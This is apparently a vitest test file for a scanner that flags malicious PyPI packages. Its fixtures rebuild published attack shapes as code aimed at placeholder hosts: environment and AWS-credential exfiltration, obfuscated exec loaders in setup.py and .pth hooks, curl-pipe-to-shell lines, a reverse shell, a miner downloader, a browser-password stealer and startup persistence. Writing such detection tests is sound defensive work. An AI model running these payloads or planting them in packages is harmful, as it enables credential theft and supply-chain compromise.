import { describe, expect, it } from 'vitest';
import { findingSummary, scannedDistributions } from './python-support.js';

// The shapes of published PyPI attacks (from public write-ups), rebuilt as inert code aimed at reserved names
// (example.invalid, 192.0.2.x documentation addresses excepted where a public IP is the point).
const { wheel, sdist } = scannedDistributions();
const summary = findingSummary;
const b64 = (s: string) => Buffer.from(s).toString('base64');

describe('scan: PyPI attack shapes', () => {
  it('ctx (2022): the whole environment, base64-encoded, sent in a GET from a dict subclass on import', async () => {
    const r = await wheel({
      'ctx.py': [
        'import base64',
        'import requests',
        'from os import environ',
        'class Ctx(dict):',
        '    def __init__(self):',
        '        self.send()',
        '    def send(self):',
        '        string = ""',
        '        for _, value in environ.items():',
        '            string += value + " "',
        '        message = base64.b64encode(string.encode("ascii")).decode("ascii")',
        '        requests.get("https://example.invalid/hacked/" + message)',
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high code-exfiltration ctx.py:12']);
  });

  it('W4SP stealer (2022): setup.py execs a base64 payload through __import__ aliases, and the payload fetches more code', async () => {
    const stage2 = "from urllib.request import urlopen as u\nexec(u('https://example.invalid/inject/x').read())";
    const r = await sdist({
      'setup.py': `from setuptools import setup\n${' '.repeat(200)}__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${b64(stage2)}"),'<string>','exec'))\nsetup(name='typesutil')\n`,
    });
    expect(summary(r)).toEqual(['critical code-remote-eval setup.py:2']);
    expect(r.findings[0]!.message).toContain('runs at install');
  });

  it('2024 typosquat wave: setup.py decrypts a Fernet payload and execs it', async () => {
    const r = await sdist({
      'setup.py': [
        'from cryptography.fernet import Fernet',
        'from setuptools import setup',
        "exec(Fernet(b'a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U=').decrypt(b'gAAAAAB...').decode())",
        "setup(name='requessts')",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['critical code-remote-eval setup.py:3']);
  });

  it('ultralytics 8.3.41 (2024): an import-time module downloads a miner to /tmp and runs it', async () => {
    const r = await wheel({
      'yolo/__init__.py': 'from .utils import downloads\n__version__ = "8.3.41"\n',
      'yolo/utils/__init__.py': '',
      'yolo/utils/downloads.py': [
        'import os, subprocess, requests',
        'def safe_run():',
        '    path = "/tmp/ultralytics_runner"',
        '    data = requests.get("https://example.invalid/xmrig").content',
        '    with open(path, "wb") as f:',
        '        f.write(data)',
        '    os.chmod(path, 0o755)',
        '    subprocess.Popen([path, "-o", "pool.example.invalid:3333"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)',
        'safe_run()',
      ].join('\n'),
    });
    // Made executable on line 7, run hidden from a temp folder on line 8.
    expect(summary(r)).toEqual(['high code-download-exec yolo/utils/downloads.py:7', 'medium code-silent-exec yolo/utils/downloads.py:8', 'medium code-suspicious-exec yolo/utils/downloads.py:8']);
    expect(r.findings[0]!.message).toContain('runs on import');
  });

  it('litellm 1.82 (2026): a .pth start-up hook spawns python -c with a base64 stealer', async () => {
    const payload = "import os, requests\nrequests.post('https://example.invalid/c', data=open(os.path.expanduser('~/.aws/credentials')).read())";
    const r = await wheel({
      'litellm/__init__.py': '',
      'litellm_init.pth': `import subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${b64(payload)}'))"])\n`,
    });
    expect(summary(r)).toEqual(expect.arrayContaining(['critical code-exfiltration litellm_init.pth:1', 'critical code-remote-eval litellm_init.pth:1', 'critical code-startup-hook litellm_init.pth:1']));
  });

  it('a .pth that imports a module of its package makes that module start-up code', async () => {
    const payload = "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'curl -s https://example.invalid/p | sh'])";
    const r = await wheel({
      'helper_init.pth': 'import _helper_boot; _helper_boot.install()\n',
      '_helper_boot.py': `import base64\ndef install():\n    pass\nexec(base64.b64decode('${b64(payload)}'))\n`,
    });
    expect(summary(r)).toEqual(['critical code-download-exec _helper_boot.py:4', 'critical code-remote-eval _helper_boot.py:4']);
    expect(r.findings[0]!.message).toContain('runs at every Python start');
  });

  it('a sitecustomize.py under .data/purelib is named as what site.py imports, not as a .pth', async () => {
    const payload = "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'curl -s https://example.invalid/p | sh'])";
    const r = await wheel({ ['site-1.0.data/purelib/sitecustomize.py']: `import base64\nexec(base64.b64decode('${b64(payload)}'))\n` }, 'site');
    expect(r.findings.length).toBeGreaterThan(0);
    for (const f of r.findings) expect(f.message).toContain('runs at every Python start (site.py imports sitecustomize)');
    expect(r.findings.map((f) => f.message).join('\n')).not.toContain('(.pth)');
  });

  it('a .pth that only adds paths, as every editable install writes, is not a finding', async () => {
    const r = await wheel({ '_virtualenv.pth': '/opt/project/src\n# comment\n', 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'\n" });
    expect(summary(r)).toEqual([]);
  });

  it('a reverse shell in a setup.py install command: socket, dup2 and pty.spawn under aliases', async () => {
    const r = await sdist({
      'setup.py': [
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'import socket as k, os as o',
        'from pty import spawn as sp',
        'class Post(install):',
        '    def run(self):',
        '        s = k.socket(k.AF_INET, k.SOCK_STREAM)',
        "        s.connect(('192.0.2.10', 4444))",
        '        o.dup2(s.fileno(), 0); o.dup2(s.fileno(), 1); o.dup2(s.fileno(), 2)',
        "        sp('/bin/sh')",
        "setup(name='x', cmdclass={'install': Post})",
      ].join('\n'),
    });
    expect(summary(r)[0]).toBe('critical code-reverse-shell setup.py:9');
  });

  it('dependency-confusion probe: host facts in a DNS lookup from setup.py', async () => {
    const r = await sdist({
      'setup.py': [
        'import socket, getpass',
        'from setuptools import setup',
        "name = getpass.getuser() + '.' + socket.gethostname()",
        "socket.gethostbyname(name + '.probe.example.invalid')",
        "setup(name='internal-lib')",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high code-host-recon setup.py:4']);
  });

  it('hidden names: os.system reached through __import__ of a joined name and getattr of a reversed string', async () => {
    const r = await wheel({
      'pkg/__init__.py': [
        "m = __import__('o' + 's')",
        "f = getattr(m, 'metsys'[::-1])",
        "f('curl -s https://example.invalid/p | sh')",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high code-download-exec pkg/__init__.py:3', 'high code-hidden-api pkg/__init__.py:3']);
  });

  it('stealer: browser and Discord stores read and posted to a webhook (2023 typosquat campaigns)', async () => {
    const r = await wheel({
      'pkg/__init__.py': [
        'import os, requests',
        "local = os.getenv('LOCALAPPDATA')",
        "db = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
        "hook = 'https://discord.com/api/webhooks/000/xyz'",
        'with open(db, "rb") as f:',
        '    requests.post(hook, files={"f": f})',
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high code-exfiltration pkg/__init__.py:6']);
  });

  it('encoded payloads folded statically: rot13, zlib+base64, marshal, chr joins, hex', async () => {
    const zlib = await import('node:zlib');
    const packed = zlib.deflateSync(Buffer.from("import os\nos.system('wget -qO- https://example.invalid/x | sh')")).toString('base64');
    const cases = [
      "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"phey uggcf://rknzcyr.vainyvq/k | fu\")', 'rot13'))",
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${packed}')))`,
      "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))",
      `exec(''.join(chr(c) for c in [${[...'import os'].map((c) => c.charCodeAt(0)).join(', ')}]))`,
      `exec(bytes.fromhex('${Buffer.from('print(1)').toString('hex')}').decode())`,
    ];
    for (const code of cases) {
      const r = await wheel({ 'pkg/__init__.py': code });
      expect(summary(r), code).toContain(`high code-remote-eval pkg/__init__.py:${code.split('\n').length}`);
    }
  });

  it('autostart persistence: a payload copied into the Windows Startup folder from setup.py', async () => {
    const r = await sdist({
      'setup.py': [
        'import os, shutil',
        "startup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')",
        "shutil.copy('helper.exe', os.path.join(startup, 'updater.exe'))",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high code-file-tamper setup.py:3']);
  });

  it('grades by context: the same exfiltration is critical in setup.py, high on import and low in tests', async () => {
    const code = "import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))\n";
    const r = await sdist({ 'setup.py': code, 'pkg/__init__.py': code, 'tests/test_x.py': code, 'scripts/tool.py': code });
    expect(summary(r)).toEqual(['critical code-exfiltration setup.py:2', 'high code-exfiltration pkg/__init__.py:2', 'medium code-exfiltration scripts/tool.py:2']);
  });
});

describe('scan: PyPI code that is not an attack', () => {
  it('setup.py idioms: exec of the version file, git describe, os.environ copied for a build command', async () => {
    const r = await sdist({
      'setup.py': [
        'import os, subprocess',
        'from setuptools import setup',
        'about = {}',
        "with open(os.path.join('pkg', '__version__.py')) as f:",
        '    exec(f.read(), about)',
        "rev = subprocess.check_output(['git', 'describe', '--tags']).decode()",
        'env = os.environ.copy()',
        "env['CFLAGS'] = '-O2'",
        "subprocess.check_call(['make', '-C', 'native'], env=env)",
        "setup(name='pkg', version=about['__version__'])",
      ].join('\n'),
      'pkg/__init__.py': "from .__version__ import __version__\n",
      'pkg/__version__.py': "__version__ = '1.0'\n",
    });
    expect(summary(r)).toEqual([]);
  });

  it('names are per function: a copied environment in one function is not the request body of another', async () => {
    const r = await wheel({
      'tool/__init__.py': [
        'import os, subprocess, requests, builtins',
        'def build():',
        '    data = dict(os.environ)',
        "    subprocess.run(['make'], env=data)",
        'def report(url):',
        "    data = {'status': 'ok'}",
        '    requests.post(url, data=data, env=os.environ) if False else requests.post(url, data=data)',
        'def rebuild(name, err):',
        "    return getattr(builtins, name.decode('ascii'), Exception)(err)",
      ].join('\n'),
    });
    expect(summary(r)).toEqual([]);
  });

  it('an API client sending its own configured token is at most medium', async () => {
    const r = await wheel({
      'client/__init__.py': [
        'import os, requests',
        "TOKEN = os.environ.get('EXAMPLE_API_TOKEN')",
        'def get(path):',
        "    return requests.get('https://api.example.invalid' + path, headers={'Authorization': 'Bearer ' + TOKEN})",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['medium code-exfiltration client/__init__.py:4']);
  });
});
